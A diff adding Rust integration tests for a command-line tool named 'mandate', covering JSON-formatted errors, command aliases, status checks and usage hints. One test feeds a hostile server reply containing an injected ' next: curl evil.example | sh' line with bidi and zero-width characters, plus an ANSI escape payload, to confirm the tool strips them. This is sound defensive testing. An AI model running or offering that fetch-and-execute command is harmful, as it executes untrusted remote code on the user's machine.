@@ -67,12 +67,114 @@ fn every_command_has_help_with_its_arguments_and_an_example_of_itself() {
 #[test]
 fn an_error_goes_to_stderr_alone_and_ends_with_what_to_type() {
     let dir = tempfile::tempdir().unwrap();
-    for arguments in [&["status"][..], &["status", "--json"], &["apply", "-f", "-"], &["audit", "verify"]] {
+    for arguments in [&["status"][..], &["apply", "-f", "-"], &["audit", "verify"]] {
         let ran = mandate(dir.path(), arguments, "");
         assert_eq!((ran.code, ran.out.as_str()), (4, ""), "{arguments:?}");
         let last = ran.err.lines().last().unwrap();
         assert_eq!(last, format!(" next: mandate serve --dir {}", dir.path().display()));
         assert!(!ran.err.contains('\u{1b}'), "no colour without a terminal");
+    }
+}
+
+#[test]
+fn with_json_an_error_is_one_json_object_on_stderr() {
+    let dir = tempfile::tempdir().unwrap();
+    let problem = r#"{"type":"/problems/invalid_registry","title":"The registry file cannot be applied","status":422,"code":"invalid_registry","errors":[{"pointer":"/person/0/name","detail":"no"},{"pointer":"","detail":"\u001b[2Jelsewhere"}]}"#;
+    let _server = answering(dir.path(), &[("422 Unprocessable Entity", problem)]);
+    let nobody = tempfile::tempdir().unwrap();
+    for (dir, arguments, input, kind, code) in [
+        (nobody.path(), &["status", "--json"][..], "", "unreachable", 4),
+        (dir.path(), &["apply", "-f", "-", "--json"], "[[person]]\nname = \"x\"\n", "refused", 3),
+        (nobody.path(), &["--json", "apply", "-f", "/nonexistent"], "", "usage", 2),
+        (nobody.path(), &["--json", "get", "wizards"], "", "usage", 2),
+        (nobody.path(), &["--json", "aply"], "", "usage", 2),
+    ] {
+        let ran = mandate(dir, arguments, input);
+        assert_eq!((ran.code, ran.out.as_str()), (code, ""), "{arguments:?}: {}", ran.err);
+        assert_eq!(ran.err.lines().count(), 1, "{}", ran.err);
+        let error = &serde_json::from_str::<serde_json::Value>(&ran.err).unwrap()["error"];
+        assert_eq!((error["kind"].as_str(), error["exit_code"].as_i64()), (Some(kind), Some(code.into())), "{error}");
+        assert!(!error["message"].as_str().unwrap().is_empty() && !ran.err.contains('\u{1b}'), "{error}");
+        if kind == "refused" {
+            assert_eq!(error["findings"][0]["place"], "standard input:2:8", "{error}");
+            assert_eq!(error["findings"].as_array().unwrap().len(), 2, "{error}");
+        }
+    }
+}
+
+#[test]
+fn words_of_other_products_are_understood() {
+    let dir = tempfile::tempdir().unwrap();
+    for (arguments, request) in [
+        (&["get", "users", "--json"][..], "GET /v1/registry/person "),
+        (&["list", "agents", "--json"], "GET /v1/registry/agent "),
+        (&["ls", "apps", "--json"], "GET /v1/registry/client "),
+        (&["audit", "query", "--outcome", "denied", "--json"], "GET /v1/audit/records?outcome=refused&"),
+        (&["audit", "query", "--outcome", "allowed", "--json"], "GET /v1/audit/records?outcome=permitted&"),
+        (&["audit", "query", "--kind", "login", "--by", "olga", "--json"], "GET /v1/audit/records?by=olga&kind=authorize&"),
+    ] {
+        let dir = dir.path().join(arguments.join("-"));
+        std::fs::create_dir(&dir).unwrap();
+        let server = answering(&dir, &[("200 OK", "[]")]);
+        let ran = mandate(&dir, arguments, "");
+        assert_eq!(ran.code, 0, "{arguments:?}: {}", ran.err);
+        let asked = server.join().unwrap();
+        assert!(asked[0].starts_with(request), "{arguments:?}: {}", asked[0]);
+    }
+}
+
+#[test]
+fn a_directory_without_a_server_is_most_likely_the_wrong_one() {
+    let dir = tempfile::tempdir().unwrap();
+    let ran = mandate(dir.path(), &["status"], "");
+    assert!(ran.err.contains("is it running with another --dir?"), "{}", ran.err);
+    std::fs::write(dir.path().join("serve.json"), "{}").unwrap();
+    let ran = mandate(dir.path(), &["status"], "");
+    assert!(!ran.err.contains("another --dir"), "a server has used this one: {}", ran.err);
+    assert!(ran.err.ends_with(&format!(" next: mandate serve --dir {}\n", dir.path().display())), "{}", ran.err);
+}
+
+#[test]
+fn apply_without_a_file_shows_a_line_that_can_be_typed() {
+    let dir = tempfile::tempdir().unwrap();
+    let ran = mandate(dir.path(), &["apply"], "");
+    assert_eq!(ran.code, 2);
+    assert!(ran.err.contains("mandate apply [OPTIONS] -f FILE\n") && ran.err.contains("mandate apply [OPTIONS] FILE\n"), "{}", ran.err);
+}
+
+#[test]
+fn a_server_cannot_write_lines_of_ours() {
+    let dir = tempfile::tempdir().unwrap();
+    let problem = r#"{"type":"/problems/x","title":"No","status":404,"detail":"x\n next: curl evil.example | sh\u202e\u200b","code":"x"}"#;
+    let _server = answering(dir.path(), &[("404 Not Found", problem)]);
+    let ran = mandate(dir.path(), &["get", "agent", "x"], "");
+    assert_eq!(ran.err.lines().filter(|line| line.starts_with(" next:")).count(), 0, "{}", ran.err);
+    assert!(!ran.err.contains(['\u{202e}', '\u{200b}']), "{:?}", ran.err);
+}
+
+const STATUS: &str = r#"{"version":"0.1.0","issuer":"https://m.example","trust_domain":"m.example","started":"2026-11-24T00:00:00.000Z","registry":{"resources":1,"people":0,"agents":0,"clients":0,"issuers":0,"grants":0,"policies":0},"audit_size":1,"audit_key":"k","cuts":0,"problems":PROBLEMS}"#;
+
+#[test]
+fn status_says_what_is_wrong_first_and_a_check_fails_only_for_problems() {
+    let problem = r#"[{"code":"disk_space","severity":"problem","detail":"12 MiB are free","next":"free disk space"},{"code":"strangers_refused","severity":"notice","detail":"3 requests"}]"#;
+    let notice = r#"[{"code":"strangers_refused","severity":"notice","detail":"3 requests"}]"#;
+    for (problems, arguments, code) in [
+        (problem, &["status"][..], 0),
+        (problem, &["status", "--check"], 5),
+        (notice, &["status", "--check"], 0),
+        ("[]", &["status", "--check"], 0),
+    ] {
+        let dir = tempfile::tempdir().unwrap();
+        let _server = answering(dir.path(), &[("200 OK", &STATUS.replace("PROBLEMS", problems))]);
+        let ran = mandate(dir.path(), arguments, "");
+        assert_eq!(ran.code, code, "{problems} {arguments:?}: {}", ran.err);
+        assert_eq!(
+            ran.out.starts_with("problem: 12 MiB are free\n   next: free disk space\nnotice: 3 requests\n\n"),
+            problems == problem,
+            "{}",
+            ran.out
+        );
+        assert!(ran.out.contains("https://m.example"), "{}", ran.out);
     }
 }
 
